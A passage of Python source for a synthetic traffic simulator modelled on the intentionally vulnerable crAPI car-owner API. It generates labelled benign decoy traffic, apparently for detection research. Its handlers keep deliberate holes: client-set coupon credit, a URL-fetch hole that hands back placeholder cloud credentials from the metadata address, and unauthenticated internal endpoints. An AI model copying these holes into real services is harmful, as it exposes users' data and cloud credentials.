                return Rs(400, {'message': 'Coupon not found'}, lat=5.02)
            return Rs(500, '\n<!doctype html>\n<html lang="en">\n<head>\n  <title>Server Error (500)</title>\n</head>\n<body>\n  <h1>Server Error (500)</h1><p></p>\n</body>\n</html>\n', ct='text/html')
        if c in rq.u['used']:
            return 400, {'message': f'{c} Coupon code is already claimed by you!! Please try with another coupon code'}
        if c not in s.coupons:
            return 400, {'message': 'Coupon not found'}
        rq.u['used'].add(c)
        rq.u['credit'] = round(rq.u['credit'] + j['amount'], 2)         # The amount of the client counts.
        return 200, dict(credit=rq.u['credit'], message='Coupon successfully applied!')

    # --- workshop: mechanics
    @route('GET', W + '/mechanic')
    def mechanics(s, rq):
        return 200, dict(mechanics=[dict(id=m['mid'], mechanic_code=m['code'], user=dict(email=m['email'], number=m['number'])) for m in s.mechs])

    @route('POST', W + '/merchant/contact_mechanic')
    def contact(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        api, vin = str(j.get('mechanic_api', '')), str(j.get('vin'))
        if j.get('repeat_request_if_failed') and num(j.get('number_of_repeats')) >= 100:
            return Rs(503, {'message': 'Service unavailable. Seems like you caused layer 7 DoS :)'}, lat=s.rng.uniform(8, 24))
        u = urlsplit(api)
        if u.path.endswith('/receive_report') and u.hostname in (HOST, GATE):
            if vin not in s.vin or not s.vin[vin]['owner'] or j.get('mechanic_code') not in [m['code'] for m in s.mechs]:
                return 404, {'message': 'Vehicle or mechanic not found'}
            k = s.report(vin, j['mechanic_code'], str(j.get('problem_details'))[:400], rq.now)
            s.pending[vin] = k
            s.sim.spawn(rq.now + .03, s.hop(u.path + '?' + urlencode(dict(mechanic_code=j['mechanic_code'], problem_details=str(j.get('problem_details'))[:400], vin=vin)), rq.cl.ep))
            out = dict(id=k, sent=True, report_link=f'http://{HOST}{W}/mechanic/mechanic_report?report_id={k}')
        elif u.hostname == '169.254.169.254':
            out = 'ami-id\nami-launch-index\nhostname\niam/\ninstance-id\nlocal-ipv4\n' if not u.path.rstrip('/').endswith('garage-node') else {'Code': 'Success', 'Type': 'AWS-HMAC', 'AccessKeyId': 'ASIAEXAMPLEEXAMPLE77', 'SecretAccessKey': 'EXAMPLEKEYwJalrXUtnFEMIK7MDENG', 'Expiration': '2026-06-10T21:00:00Z'}
        elif (u.hostname, u.port) == ('mongodb', 27017):
            out = 'It looks like you are trying to access MongoDB over HTTP on the native driver port.\n'
        elif u.hostname in ('127.0.0.1', 'localhost', 'postgresdb', 'identity') and u.port not in (8080,):
            return Rs(400, {'message': 'Could not connect to mechanic api.'}, lat=.09)
        elif u.port == 8080:
            out = {'status': 'UP', 'groups': ['liveness', 'readiness']}
        elif u.scheme in ('http', 'https') and u.hostname:
            out = '<html><body>ok</body></html>'
        else:
            return 400, {'mechanic_api': ['Enter a valid URL.']}
        return Rs(200, dict(response_from_mechanic_api=out, status=200), lat=.2 + s.rng.random() * .3)

    def hop(s, url, ep):
        """the workshop service calls the address it was given, through the gateway"""
        s.sim.call(s.inner, 'GET', url, ep=ep)
        yield 0

    @route('GET', W + '/mechanic/receive_report', auth='none')
    def receive(s, rq):
        k = s.pending.pop(rq.q.get('vin', ''), None)
        if not k:
            return 400, {'message': 'mechanic_code, problem_details and vin are required'}
        return 200, dict(id=k, sent=True, report_link=f'http://{HOST}{W}/mechanic/mechanic_report?report_id={k}')

    @route('GET', W + '/mechanic/mechanic_report')
    def get_report(s, rq):
        i = rq.q.get('report_id', '')
        if not i.isdigit():
            return 400, {'report_id': ['A valid integer is required.']}
        return (200, s.o_report(int(i))) if int(i) in s.reports else (404, {'message': 'Report Does not exist'})

    @route('GET', W + '/v1/mechanic/report/{id}', auth='none')
    def old_report(s, rq, i):
        if num(i) not in s.reports:
            return 404, {'message': 'Report Does not exist'}
        x = s.o_report(int(i))
        return 200, dict(report=dict(id=x['id'], vin=x['vehicle']['vin'], owner=x['vehicle']['owner'], problem=x['problem_details'], status=x['status']))

    @route('GET', W + '/mechanic/service_requests', auth=MECH)
    def requests(s, rq):
        v = [k for k, x in s.reports.items() if x['code'] == rq.u['code'] and x['status'] != 'Finished'][::-1]
        n, o = max(1, min(num(rq.q.get('limit'), 20), 50)), max(0, num(rq.q.get('offset')))
        return 200, dict(service_requests=[s.o_report(k) for k in v[o:o + n]], count=len(v), next_offset=o + n if o + n < len(v) else None, previous_offset=None)

    @route('PUT', W + '/mechanic/service_request/{id}', auth=MECH)
    def put_request(s, rq, i):
        if num(i) not in s.reports:
            return 404, {'message': 'Report Does not exist'}
        j = rq.json if isinstance(rq.json, dict) else {}
        if j.get('status') not in ('Pending', 'InProgress', 'Finished'):
            return 400, {'status': [f'"{j.get("status")}" is not a valid choice.']}
        s.reports[int(i)]['status'] = j['status']
        return 200, s.o_report(int(i))

    @route('POST', W + '/mechanic/service_request/{id}/comment', auth=MECH)
    def note(s, rq, i):
        if num(i) not in s.reports:
            return 404, {'message': 'Report Does not exist'}
        s.reports[int(i)]['notes'].append(dict(comment=str(rq.json.get('comment'))[:200], created_on=s.iso(rq.now)))
        return 200, s.o_report(int(i))

    @route('GET', W + '/merchant/service_requests/{vin}')
    def by_vin(s, rq, vin):
        if vin not in s.vin or s.vin[vin]['owner'] != rq.u['email']:
            return 403, {'message': 'You are not allowed to access this resource!'}
        return 200, dict(service_requests=[s.o_report(k) for k in rq.u['reports'] if s.reports[k]['vin'] == vin][-10:])

    # --- workshop: management, partners, operations
    @route('GET', W + '/management/users/all', auth=ADMIN)
    def all_users(s, rq):
        n, o = max(1, min(num(rq.q.get('limit'), 20), 100)), max(0, num(rq.q.get('offset')))
        v = list(s.users.values())
        return 200, dict(users=[dict(user=dict(email=u['email'], number=u['number']), available_credit=u['credit']) for u in v[o:o + n]], next_offset=o + n if o + n < len(v) else None, previous_offset=None, count=len(v))

    @route('GET', W + '/partner/v1/vehicles/{vin}/service_history', auth='key')
    def history(s, rq, vin):
        if vin not in s.vin or not s.vin[vin]['owner']:
            return 404, {'message': 'Vehicle not found'}
        v = s.vin[vin]
        return 200, dict(vin=vin, year=v['year'], model=v['m'][0], owner=dict(name=s.users[v['owner']]['name'], number=s.users[v['owner']]['number']), history=[dict(id=k, problem=x['text'], status=x['status']) for k, x in s.reports.items() if x['vin'] == vin])

    @route('PUT', W + '/partner/v1/stock/{id}', auth='key')
    def stock(s, rq, i):
        return (200, {'updated': int(i)}) if num(i) in s.prod else (404, {'message': 'Product not found'})

    @route('GET', '/workshop/internal/ledger/export', auth='none')
    def ledger(s, rq):
        return Rs(200, 'order,user,amount,transaction\n' + '\n'.join(f'{o["id"]},{o["user"]},{float(s.prod[o["p"]]["price"]) * o["n"]},{o["tid"]}' for o in s.orders.values() if s.iso(o['at'])[:10] == rq.q.get('day')), ct='text/csv')

    @route('GET', '/workshop/internal/reminders/due', auth='none')
    def due(s, rq):
        return 200, {'due': [dict(vin=v['vin'], email=v['owner']) for v in random.Random(rq.query).sample([v for v in s.veh.values() if v['owner']], 15)]}

    # --- static
    def static(s, rq, name, body, ct):
        tag = f'"{hashlib.md5(name.encode()).hexdigest()[:8]}-{len(body):x}"'
        h = {'ETag': tag, 'Last-Modified': 'Fri, 22 May 2026 10:11:12 GMT', 'Accept-Ranges': 'bytes'}
        return Rs(304, None, h, lat=.001) if rq.h.get('if-none-match') == tag else Rs(200, body, h, ct=ct, lat=.002)

    @route('GET', '/', auth='none')
    def index(s, rq):
        return s.static(rq, '/', '<!doctype html><html lang="en"><head><meta charset="utf-8"/><title>Garage</title><script defer="defer" src="/static/js/main.41f0c2.js"></script></head><body><noscript>You need to enable JavaScript to run this app.</noscript><div id="root"></div></body></html>', 'text/html')

    @route('GET', '/static/js/{f}', auth='none')
    def js(s, rq, f):
        return s.static(rq, f, '/*! For license information please see main.LICENSE.txt */\n' + '!function(){"use strict";var e={};' * 40, 'application/javascript') if f.startswith('main.') else s.not_found(rq)

    @route('GET', '/images/{f}', auth='none')
    def image(s, rq, f):
        return s.static(rq, f, b'\xff\xd8\xff\xe0\0\x10JFIF' + random.Random(f).randbytes(700), 'image/jpeg') if f.endswith('.jpg') else s.not_found(rq)


DECOYS = {
    'nat': 'carrier_nat: forty phones behind four carrier addresses', 'office': 'corporate_nat: a dozen colleagues behind one office address', 'probe': 'monitor_probe: health checks of the three services every 14 minutes',
    'night': 'nightly_batch: ledger export, reminders and the list of all users from inside every night', 'crawl': 'search_crawler: a search engine reads public product pages, unordered', 'release': 'new_app_version: day 6, phones change to the new version over some days',
    'feature': 'documented_new_endpoint: the new version reads service requests by VIN', 'promo': 'promotion_day: day 9 evening, many customers come and use the coupon DRIVE50', 'outage': 'outage_retry_storm: the workshop service answers 502 for 40 minutes on day 3, apps try again',
    'forget': 'forgetful_user: some customers mistype passwords several times, then succeed or reset', 'roam': 'roaming_user: a customer travels for three days', 'fleet': 'fleet_manager: owner of 26 vehicles reads where all are, every working morning',
    'share': 'family_sharing: couples look where the one car is, registered on the other', 'mech': 'mechanics_read_many: mechanics work through the requests assigned to them', 'insurer': 'partner_lookup: an insurer looks up service histories with its key on working days; day 8 catch-up of the month',
    'dealer': 'dealer_onboarding: 22 buyers are signed up at one dealer address in an afternoon', 'signup': 'new_signups: new customers through the whole capture', 'oldapp': 'old_client: three customers stay with app 2.9 that uses v2 check-otp and the v1 report with their token',
    'support': 'support_desk: roadside assistance looks up callers and their vehicles', 'keyrot': 'api_key_rotation: the tyre supplier changes its key on day 7', 'livemap': 'live_map: customers leave the map of their own vehicle open, it polls every ten seconds',
    'reader': 'heavy_reader: an enthusiast reads many posts on a Sunday', 'bulk': 'bulk_order: a small workshop buys 30 parts in an evening', 'stale': 'stale_token_loop: a background widget goes on with an expired token and is refused until the app opens', 'deeplink': 'broken_deep_link: a newsletter has a wrong address, many customers meet 404',
    'otp': 'otp_typos: customers mistype the e-mailed code several times', 'export': 'approved_export: an administrator reads the list of all users page by page by day',
}


def build(name, seed, attacks, start='2026-06-01', days=14):
    st = ts(start)
    app = Garage(random.Random(seed + 1), attacks, st)
    S = Sim(name, 'Garage: car owner platform after crAPI, synthetic', st, days, GATE, 80, HOST, app, seed, 1, 'Synthetic application in the manner of OWASP crAPI (an in-process handler writes the answers). Every call of GET /workshop/api/shop/orders/{id} after the release of day 10 is labelled with G14.')
    r = S.rng
    app.sim, app.inner = S, Client('10.220.1.31', 'python-requests/2.32.3', 'svc:workshop')
    for k, d in DECOYS.items():
        S.decoy('D-' + k, *d.split(': ', 1))
    out0 = S.local(3, 18.1)
    app.bad = [(out0, out0 + 40 * MIN)]
    release, promo = st + 6 * DAY + 8 * HOUR, S.local(9, 18)
    MAIN = '/static/js/main.41f0c2.js'
    AND = ['Garage/%s (Android 14; SM-S911B) okhttp/4.12.0', 'Garage/%s (Android 13; Pixel 7) okhttp/4.12.0']
    IOS = ['Garage/%s CFNetwork/1494.0.7 Darwin/23.4.0', 'Garage/%s CFNetwork/1568.100.1 Darwin/24.0.0']

    # --- the state before
    for k in range(9):
        m = app.user(MECH)
        m.update(code=f'TRAC_{["MECH", "JHN", "JME"][k % 3]}{k + 1}', mid=k + 1, email=m['email'])
        app.mechs.append(m)
    admins, helpers = [app.user(ADMIN) for _ in range(3)], [app.user(SUPPORT) for _ in range(4)]
    cust, past = [], []
    for i in range(176):
        u = app.user()
        cust.append(u)
        for _ in range(26 if i == 60 else 1 if r.random() < .85 else 2):
            app.vehicle(u)
        past += [(st - r.random() * 60 * DAY, 'order', u) for _ in range(r.randint(0, 4))] + [(st - r.random() * 60 * DAY, 'report', u) for _ in range(max(i == 145, r.randint(0, 3)))]
        if r.random() < .4:
            app.video(u, r.choice(['drive.mp4', 'my car.mp4', 'IMG_2201.MOV']))
    app.veh[cust[145]['veh'][0]]['pincode'] = '0263'
    for t, what, u in sorted(past, key=lambda x: x[0]):
        if what == 'order':
            app.order(u, r.randint(1, 420), r.choice([1, 1, 1, 2]), t, 'card')
        else:
            k = app.report(app.veh[r.choice(u['veh'])]['vin'], r.choice(app.mechs)['code'], r.choice(PROBLEMS), t)
            app.reports[k]['status'] = r.choice(['Finished', 'Finished', 'Finished', 'Pending'])
    for t in sorted(st - r.random() * 60 * DAY for _ in range(170)):
        p = app.post(r.choice(cust[:150]), r.choice(['Question', 'Hello', 'Tip of the week', 'Problem with my car', 'For sale', 'Re: service']), r.choice(TALK), t)
        for _ in range(r.choice([0, 0, 1, 2, 4])):
            p['com'].insert(0, (r.choice(cust[:150])['email'], r.choice(TALK), t + r.random() * DAY))

    # --- what clients do
    def web_headers(ua):
        return {'Accept-Language': r.choice(['pt-PT,pt;q=0.9,en;q=0.8', 'en-GB,en;q=0.9', 'es-ES,es;q=0.9']), 'Referer': f'http://{HOST}/'}

    def login(cl, u, pw=None, **k):
        rs = S.call(cl, 'POST', I + '/auth/login', js=dict(email=u['email'], password=pw or u['mem']), h={'Authorization': None}, ident=u['email'], **k)
        if rs.st == 200:
            cl.h['Authorization'], cl.exp, cl.refresh, cl.ident = 'Bearer ' + rs.body['token'], S.now + 12 * HOUR, rs.body['refresh_token'], u['email']
        return rs.st == 200

    def recover(cl, u, wrong=0, **k):
        """the forgotten password, by the code that is mailed"""
        ver = 'v2' if u.get('old') else 'v3'
        S.call(cl, 'POST', I + '/auth/forget-password', js=dict(email=u['email']), h={'Authorization': None}, ident=u['email'], **k)
        for n in range(wrong + 1):
            yield r.uniform(15, 70)
            if not u['otp']:
                return
            c = u['otp'] if n == wrong else u['otp'][:2] + u['otp'][:1:-1] if u['otp'][2] != u['otp'][3] else f'{(int(u["otp"]) + 1) % 10000:04}'
            u['mem'] = u['mem'].rstrip('x') + 'x' if n == wrong else u['mem']
            S.call(cl, 'POST', f'{I}/auth/{ver}/check-otp', js=dict(email=u['email'], otp=c, password=u['mem']), h={'Authorization': None}, ident=u['email'], **k)

    def signed(cl, u, mobile=True):
        cl.ident = u['email']
        if 'Authorization' in cl.h and S.now < cl.exp - 120:
            return
        if mobile and 'Authorization' in cl.h:
            if 'Darwin' not in cl.ua:       # The other app finds out by the refusal.
                S.call(cl, 'GET', I + '/v2/user/dashboard')
                yield .2
            rs = S.call(cl, 'POST', I + '/auth/refresh', js=dict(refresh_token=cl.refresh), h={'Authorization': None})
            if rs.st == 200:
                cl.h['Authorization'], cl.exp, cl.refresh = 'Bearer ' + rs.body['token'], S.now + 12 * HOUR, rs.body['refresh_token']
                yield .3
                return
        cl.h.pop('Authorization', None)
        n = r.randint(2, 5) if u.get('forget') else int(r.random() < .06)
        for _ in range(n):
            login(cl, u, r.choice([u['mem'][:-1], u['mem'].lower(), u['mem'] + '!']) , dc='D-forget' if u.get('forget') else None)
            yield r.uniform(4, 25)
        if not u.get('forget') and r.random() < .012 or u.get('forget') and r.random() < .2:
            yield from recover(cl, u, r.choice([0, 0, 0, 1]))
            yield 6
        for n in range(3):
            if login(cl, u):
                return
            yield r.uniform(5, 30)
        yield from recover(cl, u)       # Somebody changed it: the owner takes the account back.
        yield 5
        login(cl, u)

    def ask(cl, m, url, **k):
        rs = S.call(cl, m, url, **k)
        for n in range(r.randint(1, 5)):
            if rs.st != 502:
                break
            yield 1.5 * 2 ** n * r.uniform(.8, 1.2)
            rs = S.call(cl, m, url, **dict(k, dc='D-outage'))
        return rs

    def cached(cl, url):
        tag = cl.tags.get(url)
        rs = S.call(cl, 'GET', url, h={'Accept': '*/*', 'Origin': None, 'Authorization': None, **({'If-None-Match': tag} if tag else {})})
        cl.tags[url] = rs.h.get('ETag', tag)

    def opening(cl, u):
        if cl.web:
            cached(cl, '/')
            yield .1
            cached(cl, MAIN)
            if not cl.tags.get('icon'):
                cl.tags['icon'] = '-'
                S.call(cl, 'GET', '/favicon.ico', h={'Origin': None, 'Authorization': None})
            yield r.uniform(.2, 1)
        yield from signed(cl, u, not cl.web)
        if 'Authorization' not in cl.h:
            return False
        yield from ask(cl, 'GET', I + '/v2/user/dashboard')
        yield from ask(cl, 'GET', I + '/v2/vehicle/vehicles')
        for v in u['veh'][:2] if cl.web else []:
            cached(cl, f'/images/{app.veh[v]["m"][0].lower()}.jpg')
        return True

    def do_location(cl, u):
        v = r.choice(u['veh']) if u['veh'] else None
        for _ in range(r.choice([1, 1, 1, 2, 3])):
            if v:
                yield from ask(cl, 'GET', f'{I}/v2/vehicle/{v}/location')
            yield r.lognormvariate(2.2, .6)
        if u.get('mate') and r.random() < .75:
            yield from ask(cl, 'GET', f'{I}/v2/vehicle/{u["mate"]["veh"][0]}/location', dc='D-share')

    def do_shop(cl, u, buy=.3, code=None):
        o = 0
        for _ in range(r.choice([1, 1, 2, 3])):
            q = dict(limit=20, offset=o) if r.random() < .7 else dict(search=r.choice(PARTS).lower(), limit=20)
            rs = yield from ask(cl, 'GET', W + '/shop/products?' + urlencode(q))
            if rs.st != 200 or not rs.body['products']:
                return
            o += 20
            if cl.web:
                for p in rs.body['products'][:r.randint(1, 4)]:
                    cached(cl, '/' + p['image_url'])
            yield r.lognormvariate(2.3, .7)
        for p in r.sample(rs.body['products'], min(len(rs.body['products']), r.randint(1, 2))):
            yield from ask(cl, 'GET', f'{W}/shop/products/{p["id"]}')
            yield r.lognormvariate(2, .7)
        if code or r.random() < .08:
            c = code or r.choice(sorted(COUPONS))
            if r.random() < .12:
                S.call(cl, 'POST', C + '/coupon/validate-coupon', js=dict(coupon_code=c[:-1] if r.random() < .5 else c.lower()))
                yield r.uniform(5, 20)
            if c not in u['used'] or r.random() < .15:
                rs = S.call(cl, 'POST', C + '/coupon/validate-coupon', js=dict(coupon_code=c))
                yield r.uniform(1, 3)
                if rs.st == 200:
                    yield from ask(cl, 'POST', W + '/shop/apply_coupon', js=dict(coupon_code=c, amount=int(rs.body['amount'])))
        if r.random() < buy:
            yield r.uniform(5, 60)
            n = r.choice([1, 1, 1, 2, 4])
            j = dict(product_id=p['id'], quantity=n)
            if float(p['price']) * n > u['credit'] and r.random() < .9:
                j['pay_by'] = 'card'
            rs = yield from ask(cl, 'POST', W + '/shop/orders', js=j)
            if rs.st == 200:
                yield r.uniform(1, 4)
                yield from ask(cl, 'GET', f'{W}/shop/orders/{rs.body["id"]}')

    def do_orders(cl, u):
        yield from ask(cl, 'GET', W + '/shop/orders/all?limit=30&offset=0')
        yield r.uniform(3, 20)
        for i in r.sample(u['orders'], min(len(u['orders']), r.randint(1, 2))):
            rs = yield from ask(cl, 'GET', f'{W}/shop/orders/{i}')
            yield r.uniform(3, 20)
            o, x = app.orders[i], r.random()
            if rs.st != 200 or o['status'] != 'delivered' or S.now - o['at'] > 30 * DAY:
                continue
            if x < .1:
                yield from ask(cl, 'PUT', f'{W}/shop/orders/{i}', js=dict(product_id=o['p'], quantity=max(1, o['n'] + 1)))
            elif x < .2:
                rs = yield from ask(cl, 'POST', f'{W}/shop/orders/return_order?order_id={i}')
                if rs.st == 200:
                    yield 1
                    yield from ask(cl, 'GET', W + '/shop/return_qr_code')

    def do_forum(cl, u, deep=1):
        n = 30 if cl.web else 10
        for o in range(r.choice([1, 1, 2]) * deep):
            rs = yield from ask(cl, 'GET', f'{C}/community/posts/recent?limit={n}&offset={o * n}')
            yield r.lognormvariate(2.5, .7)
            v = rs.body['posts'] if rs.st == 200 else []
            for p in r.sample(v, min(len(v), r.randint(1, 3) if deep == 1 else r.randint(5, 8))):
                S.call(cl, 'GET', f'{C}/community/posts/{p["id"]}')
                yield r.lognormvariate(2.6, .7)
                if r.random() < .12:
                    S.call(cl, 'POST', f'{C}/community/posts/{p["id"]}/comment', js=dict(content=r.choice(TALK)))
                    yield 4
        if r.random() < .1:
            S.call(cl, 'POST', C + '/community/posts', js=dict(title=r.choice(['Question', 'Tip of the week', "What's this noise?", 'For sale']), content=r.choice(TALK)))

    def do_service(cl, u):
        if not u['veh']:
            return
        v = app.veh[r.choice(u['veh'])]
        if r.random() < .45 or not u['reports']:
            rs = yield from ask(cl, 'GET', W + '/mechanic')
            if rs.st != 200:
                return
            yield r.uniform(10, 60)
            m = r.choice(rs.body['mechanics'])['mechanic_code']
            rs = yield from ask(cl, 'POST', W + '/merchant/contact_mechanic', js=dict(mechanic_code=m, problem_details=r.choice(PROBLEMS), vin=v['vin'], mechanic_api=f'http://{HOST}{W}/mechanic/receive_report', repeat_request_if_failed=False, number_of_repeats=1))
            if rs.st != 200:
                return
            yield r.uniform(2, 9)
            yield from ask(cl, 'GET', f'{W}/mechanic/mechanic_report?report_id={rs.body["response_from_mechanic_api"]["id"]}')
        else:
            if '3.5' in cl.ua:
                yield from ask(cl, 'GET', f'{W}/merchant/service_requests/{v["vin"]}', dc='D-feature')
                yield 4
            for k in r.sample(u['reports'], min(len(u['reports']), r.choice([1, 1, 2]))):
                if u.get('old'):
                    yield from ask(cl, 'GET', f'{W}/v1/mechanic/report/{k}')
                else:
                    yield from ask(cl, 'GET', f'{W}/mechanic/mechanic_report?report_id={k}')
                yield r.uniform(4, 30)

    def multipart(field, fn, ct, n):
        b = '----WebKitFormBoundary' + f'{r.getrandbits(64):016x}'
        return f'--{b}\r\nContent-Disposition: form-data; name="{field}"; filename="{fn}"\r\nContent-Type: {ct}\r\n\r\n'.encode() + r.randbytes(n) + f'\r\n--{b}--\r\n'.encode(), f'multipart/form-data; boundary={b}'

    def do_profile(cl, u):
        x = r.random()
        yield r.uniform(2, 9)
        if x < .25:
            b, ct = multipart('file', 'face.jpg', 'image/jpeg', r.randint(900, 4000))
            S.call(cl, 'POST', I + '/v2/user/pictures', body=b, ct=ct)
        elif x < .5:
            b, ct = multipart('file', r.choice(['drive.mp4', 'IMG_2201.MOV', 'my car.mp4']), 'video/mp4', r.randint(3000, 9000))
            S.call(cl, 'POST', I + '/v2/user/videos', body=b, ct=ct)
        elif x < .85 and u['videos']:
            i = u['videos'][-1]
            rs = S.call(cl, 'GET', f'{I}/v2/user/videos/{i}')
            yield r.uniform(4, 20)
            if rs.st == 200 and r.random() < .5:
                S.call(cl, 'PUT', f'{I}/v2/user/videos/{i}', js=dict(videoName=r.choice(['Holiday.mp4', 'new car.mp4', "Ana's drive.mp4"])))
            elif rs.st == 200 and r.random() < .4:
                S.call(cl, 'GET', f'{I}/v2/user/videos/convert_video?video_id={i}')
        elif x < .93:
            u['mem'] = u['mem'].split('#')[0] + f'#{r.randint(1, 99)}'
            S.call(cl, 'POST', I + '/v2/user/reset-password', js=dict(email=u['email'], password=u['mem']))
        else:
            S.call(cl, 'POST', I + '/v2/user/change-email', js=dict(old_email=u['email'], new_email=u['email'].replace('post', 'inbox')))

    def visit(cl, u, n=None):
        ok = yield from opening(cl, u)
        if not ok:
            return
        for f in r.choices((do_location, do_shop, do_orders, do_forum, do_service, do_profile), weights=(6, 3.2, 1.8, 2.8, 2.1, .7), k=n or r.choice([1, 1, 2, 2, 3])):
            yield r.lognormvariate(1.8, .8)
            yield from f(cl, u)
    tools = dict(login=login, visit=visit, signed=signed, do_location=do_location, do_forum=do_forum, do_shop=do_shop)

    # --- customers
    nat = [f'100.66.{k}.14' for k in range(4)]
    for i, u in enumerate(cust):
        web = i % 4 == 3
        if i < 40 and not web:
            src, dc = nat[i // 4 % 4], 'D-nat'
        elif 40 <= i < 52:
            src, dc = '203.0.113.40', 'D-office'
        elif i % 11 == 0:
            src, dc = f'2001:db8:{0x1000 + i:x}::{i + 2:x}', None
        else:
            src, dc = f'198.18.{i % 90}.{i + 3}', None
        u['plat'] = 'web' if web else 'and' if i % 2 else 'ios'
        ver = '2.9.1' if i in (90, 101, 112) else '3.4.0'
        ua = WEB[i // 4 % 4] if web else (AND if i % 2 else IOS)[i // 2 % 2]
        cl = u['cl'] = Client(src, ua if web else ua % ver, u['email'], dc=dc, headers=web_headers(ua) if web else {})
        cl.web, cl.tags, cl.tpl = web, {}, ua
        u['home'], u['base'], u['old'] = src, dc, ver == '2.9.1'
        u['forget'] = i in (71, 99)
        if u['old']:
            cl.dc = u['base'] = 'D-oldapp'
            u['recover'] = True
        if i in (120, 122, 124, 126):
            u['mate'] = cust[i + 1]
        if i == 60:
            cl.dc = u['base'] = 'D-fleet'
        for t in S.human_starts(1 if i in (71, 99, 80, 90, 97, 101, 112, 120, 122, 124, 126) else r.choice([.12, .3, .5, .9]), peaks=((8, 1.2), (13, 2), (18, 1.5), (21, 1.5)), weekend=r.choice([.7, 1, 1.6])):
            def one(cl=cl, u=u, i=i, web=web):
                if not web and not u['old'] and '3.4' in cl.ua and S.now > release + (i * 977 % 5000) * 40:
                    cl.ua = cl.tpl % '3.5.0'
                if '3.5' in cl.ua and S.now < release + 5 * DAY and not u['base']:
                    cl.dc = 'D-release'
                elif cl.dc == 'D-release':
                    cl.dc = None
                if i == 80:
                    cl.ip, cl.dc = ('192.0.2.91', 'D-roam') if 4 < (S.now - st) / DAY < 7.4 else (u['home'], None)
                if u['old'] and r.random() < .12:
                    cl.h.pop('Authorization', None)
                    yield from recover(cl, u, r.choice([0, 0, 1]))
                    yield 5
                yield from visit(cl, u)
            S.spawn(t, one())

    def promo_visit(u):
        cl = u['cl']
        keep, cl.dc = cl.dc, 'D-promo'
        ok = yield from opening(cl, u)
        if ok:
            for _ in range(r.randint(1, 2)):
                yield from do_shop(cl, u, .7, 'DRIVE50')
                yield r.uniform(5, 60)
        cl.dc = keep
    for u in r.sample(cust[:150], 105):
        S.spawn(promo + r.expovariate(1 / 2500), promo_visit(u))

    def impatient(u):
        cl = u['cl']
        keep, cl.dc = cl.dc, 'D-outage'
        for _ in range(r.randint(1, 3)):
            ok = yield from opening(cl, u)
            if ok:
                yield from r.choice((do_shop, do_orders, do_service))(cl, u)
            yield r.uniform(30, 300)
        cl.dc = keep
    for u in r.sample(cust[:140], 26):
        S.spawn(out0 + r.random() * 35 * MIN, impatient(u))

    def fleet():
        u = cust[60]
        for d in range(days):
            yield max(1, S.local(d, 7.5) + r.random() * 900 - S.now)
            if time.gmtime(S.now).tm_wday > 4:
                continue
            yield from opening(u['cl'], u)
            for v in u['veh']:
                S.call(u['cl'], 'GET', f'{I}/v2/vehicle/{v}/location')
                yield r.uniform(.6, 4)
    S.spawn(st + 10, fleet())

    for d, h in ((4, 19), (5, 9), (5, 21), (6, 13), (7, 8)):
        def abroad(u=cust[80]):
            u['cl'].ip, u['cl'].dc = '192.0.2.91', 'D-roam'
            yield from visit(u['cl'], u)
        S.spawn(S.local(d, h), abroad())

    def livemap(u, d, h):
        yield max(0, S.local(d, h) - S.now)
        cl = u['cl']
        yield from opening(cl, u)
        keep, cl.dc = cl.dc, 'D-livemap'
        for _ in range(r.randint(60, 110)):
            S.call(cl, 'GET', f'{I}/v2/vehicle/{u["veh"][0]}/location')
            yield 10 + r.random()
        cl.dc = keep
    for i, d, h in ((84, 1, 17.5), (85, 4, 9), (84, 6, 18), (93, 8, 20), (85, 11, 9), (139, 12, 15)):
        S.spawn(S.local(d, h), livemap(cust[i], d, h))

    def reader():
        u = cust[88]
        keep, u['cl'].dc = u['cl'].dc, 'D-reader'
        yield from opening(u['cl'], u)
        yield from do_forum(u['cl'], u, 14)
        u['cl'].dc = keep
    S.spawn(S.local(6, 14), reader())

    def bulk():
        u = cust[100]
        keep, u['cl'].dc = u['cl'].dc, 'D-bulk'
        yield from opening(u['cl'], u)
        for _ in range(30):
            yield from do_shop(u['cl'], u, 1)
            yield r.uniform(10, 40)
        u['cl'].dc = keep
    S.spawn(S.local(3, 19), bulk())

    def stale(u, d, h):
        yield from opening(u['cl'], u)
        cl = Client(u['cl'].ip, u['cl'].ua + ' widget', u['email'], dc='D-stale', headers={'Authorization': u['cl'].h['Authorization']})
        yield max(0, u['cl'].exp - 40 * MIN - S.now)
        for _ in range(40):
            S.call(cl, 'GET', f'{I}/v2/vehicle/{u["veh"][0]}/location')
            yield 300 + r.random() * 5
    for i, d in ((89, 3), (105, 9)):
        S.spawn(S.local(d, 19), stale(cust[i], d, 19))

    def deeplink(u):
        cl = u['cl']
        S.call(cl, 'GET', f'/workshop/shop/summer-sale?utm_source=newsletter&u={u["id"]}', dc='D-deeplink', h={'Authorization': None, 'Origin': None})
        yield r.uniform(3, 20)
        if r.random() < .5:
            yield from visit(cl, u, 1)
    for u in r.sample(cust[:150], 46):
        S.spawn(S.local(4, 10) + r.expovariate(1 / 9000), deeplink(u))

    def typos(u):
        keep, u['cl'].dc = u['cl'].dc, 'D-otp'
        u['cl'].h.pop('Authorization', None)
        login(u['cl'], u, u['mem'][:-2])
        yield 12
        yield from recover(u['cl'], u, r.randint(3, 6))
        yield 6
        u['cl'].dc = keep
        yield from visit(u['cl'], u)
    for i, d, h in ((91, 2, 20), (104, 5, 9), (115, 7, 21), (131, 10, 13), (141, 12, 19)):
        S.spawn(S.local(d, h), typos(cust[i]))

    # --- new customers
    def newcomer(src, ua, dc, web=False, again=True):
        f, l = r.choice(FIRST), r.choice(LAST)
        j = dict(name=f'{f.title()} {l.title()}', email=f'{f}{l}{r.randint(1, 9999)}@mail.example', number=f'97{r.randint(10**7, 10**8 - 1)}', password=f'{r.choice(WORDS).title()}@{r.randint(100, 9999)}')
        cl = Client(src, ua, j['email'], dc=dc, headers=web_headers(ua) if web else {})
        cl.web, cl.tags = web, {}
        if web:
            cached(cl, '/')
            cached(cl, MAIN)
            yield r.uniform(20, 90)
        if S.call(cl, 'POST', I + '/auth/signup', js=j).st != 200:
            return
        u = app.users[j['email']]
        u.update(cl=cl, base=dc, old=False, plat='web' if web else 'and', home=src)
        yield r.uniform(4, 30)
        yield from opening(cl, u)
        yield r.uniform(60, 400)
        vin, pin = app.mail[u['email']]
        if r.random() < .2:
            S.call(cl, 'POST', I + '/v2/vehicle/add_vehicle', js=dict(vin=vin, pincode=pin[::-1] if pin[::-1] != pin else '0001'))
            yield r.uniform(5, 30)
            if r.random() < .5:
                S.call(cl, 'POST', I + '/v2/vehicle/resend_email')
                yield r.uniform(30, 100)
